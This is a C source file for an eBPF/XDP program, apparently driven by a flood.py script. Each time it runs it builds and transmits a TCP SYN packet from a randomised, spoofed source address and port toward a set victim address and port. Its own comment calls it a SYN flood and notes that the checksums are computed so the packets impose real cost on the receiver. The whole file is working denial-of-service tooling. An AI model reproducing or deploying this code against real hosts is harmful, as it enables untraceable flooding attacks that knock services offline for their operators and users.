/* SPDX-License-Identifier: GPL-2.0-only */
/* flood.c - writes one TCP SYN a run, from a random address and port; run with live frames, it is a SYN flood.
 *
 * Live frames come back as their last user left them, so every header is written anew; checksums are right, else the
 * receiver would drop the packet before it costs anything.
 *
 * Passed by flood.py: MAC_WORDS (destination and source as they lie in the frame, six __u16), SOURCE, SOURCE_MASK,
 * VIP (host order), PORT (host order).
 */
#include <uapi/linux/bpf.h>
#include <uapi/linux/if_ether.h>
#include <uapi/linux/in.h>

#define be16(x) __builtin_bswap16(x)

#define FRAME_WORDS 27		/* 14 + 20 + 20 bytes */
#define IP 7
#define TCP 17
#define TCP_BYTES 20

static __always_inline __u16 checksum(const __u16 *words, int count, __u32 sum)
{
#pragma unroll
	for (int i = 0; i < count; i++)
		sum += words[i];
	sum = (sum & 0xffff) + (sum >> 16);
	return ~((sum & 0xffff) + (sum >> 16));
}

int flood(struct xdp_md *ctx)
{
	__u16 *to = (void *)(long)ctx->data;

	if ((void *)(to + FRAME_WORDS) > (void *)(long)ctx->data_end)
		return XDP_ABORTED;

	__u32 source = SOURCE | (bpf_get_prandom_u32() & SOURCE_MASK), random = bpf_get_prandom_u32();
	__u16 frame[FRAME_WORDS] = {
		MAC_WORDS, be16(ETH_P_IP),
		be16(0x4500), be16(40), random >> 16, be16(0x4000), be16(64 << 8 | IPPROTO_TCP), 0,
		be16(source >> 16), be16(source & 0xffff), be16(VIP >> 16), be16(VIP & 0xffff),
		random | be16(1024), be16(PORT), random >> 16, random, 0, 0, be16(0x5002), be16(64240), 0, 0,
	};

	frame[IP + 5] = checksum(frame + IP, 10, 0);
	frame[TCP + 8] = checksum(frame + IP + 6, 14, be16(IPPROTO_TCP) + be16(TCP_BYTES));
#pragma unroll
	for (int i = 0; i < FRAME_WORDS; i++)
		to[i] = frame[i];
	return XDP_TX;
}
